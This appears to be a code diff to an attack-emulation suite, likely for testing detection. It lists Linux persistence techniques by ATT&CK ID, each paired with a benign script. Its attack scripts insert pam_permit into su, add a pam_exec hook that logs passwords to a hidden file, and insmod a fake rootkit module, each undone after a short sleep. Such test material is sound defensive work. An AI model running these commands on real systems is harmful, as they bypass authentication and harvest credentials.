@@ -178,7 +178,7 @@ export const persistence: Technique[] = [
       {
         name: 'pam_permit line added to su (then undone)',
         script:
-          "cp -p /etc/pam.d/su /tmp/.su && sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/su && sleep 1 && cat /tmp/.su > /etc/pam.d/su && rm -f /tmp/.su",
+          "cp -p /etc/pam.d/su /tmp/.su && sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/su && sleep 0.2 && cat /tmp/.su > /etc/pam.d/su && rm -f /tmp/.su",
       },
       {
         name: 'pam_exec with expose_authtok in common-auth (then undone)',
@@ -186,12 +186,15 @@ export const persistence: Technique[] = [
           'printf \'#!/bin/sh\\nread pw; echo "$PAM_USER $pw" >> /var/tmp/.pw\\n\' > /usr/local/bin/pam-log && chmod 755 /usr/local/bin/pam-log',
           'cp -p /etc/pam.d/common-auth /tmp/.ca',
           "echo 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/pam-log' >> /etc/pam.d/common-auth",
-          'sleep 1',
+          'sleep 0.2',
           'cat /tmp/.ca > /etc/pam.d/common-auth && rm -f /tmp/.ca',
         ].join('\n'),
       },
     ],
-    benign: { name: 'pam-auth-update regenerates the common stacks', script: 'pam-auth-update --package' },
+    benign: {
+      name: 'open-file limit for pam_limits in limits.d',
+      script: "mkdir -p /etc/security/limits.d && echo '* soft nofile 65536' > /etc/security/limits.d/90-nofile.conf",
+    },
   },
   {
     id: 'T1574.006',
@@ -251,7 +254,7 @@ export const persistence: Technique[] = [
         script: `mkdir -p /tmp/.r && ${FAKE_MODULE('/tmp/.r/diamorphine.ko')} && (insmod /tmp/.r/diamorphine.ko 2>/dev/null; true) && rm -rf /tmp/.r`,
       },
     ],
-    benign: { name: 'ldd and the module list', script: 'ldd /bin/ls >/dev/null && cat /proc/modules >/dev/null' },
+    benign: { name: 'ldd and the loader cache', script: 'ldd /bin/ls >/dev/null && ldconfig -p | grep -q libc.so' },
   },
   {
     id: 'T1548.001',
